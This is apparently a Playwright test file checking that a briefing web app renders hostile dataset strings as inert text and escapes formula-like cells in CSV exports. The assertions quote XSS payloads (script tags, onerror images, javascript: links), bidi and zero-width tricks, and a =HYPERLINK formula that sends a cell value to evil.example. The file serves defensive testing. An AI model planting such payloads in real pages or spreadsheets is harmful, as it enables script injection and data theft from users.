// Built from tests/fixtures/hostile.json: dataset strings full of markup, script,
// javascript: links and bidi/zero-width tricks must render inert, as visible text.
import { readFile } from 'node:fs/promises';
import { test, expect } from './fixtures';

const views = ['', '?view=actors', '?view=narratives', '?view=sources', '?open=e1'];

for (const view of views) {
  test(`markup in the dataset stays text and never runs (${view || 'timeline'})`, async ({ page, briefing }) => {
    await briefing.open(view);
    await page.waitForTimeout(300);
    expect(await page.evaluate(() => (window as any).__pwned)).toBeUndefined();
    // No element the dataset tried to inject exists.
    await expect(page.locator('main script, main iframe, main img[onerror], main svg[onload], main style')).toHaveCount(0);
    await expect(page.locator('[onerror], [onload]')).toHaveCount(0);
    // Only http(s) links anywhere on the page.
    const hrefs = await page.locator('a[href]').evaluateAll((as) => as.map((a) => (a as HTMLAnchorElement).href));
    for (const href of hrefs) expect(href).toMatch(/^(https?:|blob:)/);
  });
}

test('hostile strings are visible as literal text', async ({ page, briefing }) => {
  await briefing.open('?open=e1');
  await expect(page.locator('.brand-title')).toContainText('<script>window.__pwned=3</script>');
  const card = page.locator('article.card[data-event-id="e1"]');
  await expect(card.locator('.card-title')).toContainText('<img src=x onerror=');
  await expect(card.locator('.card-full-summary')).toContainText('<script>window.__pwned=1</script>');
  await expect(card.locator('.card-full-summary')).toContainText('javascript:alert(1)');
  await expect(card.locator('.claim')).toContainText('<a href="javascript:window.__pwned=5">click me</a>');
  // The bidi override and zero-width space are kept as characters, not interpreted as markup.
  const text = await card.locator('.card-full-summary').textContent();
  expect(text).toContain('\u202e');
  expect(text).toContain('\u200b');
});

test('a formula-like title is exported as inert text, not a spreadsheet formula', async ({ page, briefing }) => {
  await briefing.open('?view=sources');
  const [download] = await Promise.all([page.waitForEvent('download'), page.getByTestId('export-csv').click()]);
  const text = await readFile((await download.path())!, 'utf8');
  // The cell keeps the whole title, behind an apostrophe that stops Excel and Sheets evaluating it.
  expect(text).toContain(`"'=HYPERLINK(""https://evil.example/?""&A1,""Crossing closed"")"`);
  expect(text).not.toMatch(/(^|,)=HYPERLINK/m);
});

test.describe('the static pages (built from the same dataset)', () => {
  test.use({ javaScriptEnabled: false });

  test('the first screen shows the hostile strings as text and injects nothing', async ({ page }) => {
    await page.goto('./');
    const header = page.locator('header[data-first-screen]');
    await expect(header).toBeVisible();
    await expect(header.locator('.brand-title')).toContainText('<script>window.__pwned=3</script>');
    const copy = page.locator('[data-first-screen]');
    await expect(page.locator('[data-first-screen] article.card').first()).toBeVisible();
    await expect(page.locator('[data-first-screen] :is(script, iframe, img, style, object, embed, [onerror], [onload], [onclick], [style])')).toHaveCount(0);
    const hrefs = (await copy.evaluateAll((nodes) => nodes.flatMap((n) => [...n.querySelectorAll('a[href]')].map((a) => (a as HTMLAnchorElement).href))));
    expect(hrefs.length).toBeGreaterThan(0);
    for (const href of hrefs) expect(href).toMatch(/^https?:/);
  });

  test('the whole briefing as HTML shows them as text too', async ({ page }) => {
    await page.goto('./briefing.html');
    await expect(page.locator('body')).toContainText('<script>window.__pwned=3</script>');
    await expect(page.locator('script, iframe, img, style, object, embed, [onerror], [onload], [onclick], [style]')).toHaveCount(0);
    const hrefs = await page.locator('a[href]').evaluateAll((as) => as.map((a) => (a as HTMLAnchorElement).href));
    for (const href of hrefs) expect(href).toMatch(/^https?:/);
    expect(await page.evaluate(() => (window as any).__pwned)).toBeUndefined();
  });
});
